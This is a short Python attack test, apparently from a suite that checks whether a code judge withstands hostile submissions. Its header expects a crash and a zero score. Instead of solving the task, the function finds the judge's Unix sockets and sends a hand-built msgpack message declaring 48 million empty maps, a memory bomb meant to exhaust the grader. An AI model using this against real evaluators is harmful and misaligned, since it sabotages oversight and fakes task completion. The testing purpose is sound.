# attack: sends an answer by hand that is small on the wire and large in the judge
# challenge: toy
# only: test_total
# at most: 0
# outcomes: crash
# says: something that is not an answer
"""Hopes that a byte on the wire is sixty in memory: 48 MB of empty mappings would be 3 GB."""

import gc
import socket
import struct


def total(keys):
    pieces = 48_000_000
    body = b"\x81\xa5value\xdd" + struct.pack(">I", pieces) + b"\x80" * pieces
    for found in gc.get_objects():
        if isinstance(found, socket.socket) and found.family == socket.AF_UNIX:
            found.settimeout(None)
            found.sendall(struct.pack("<QI", len(body), 0) + body)
    return 0
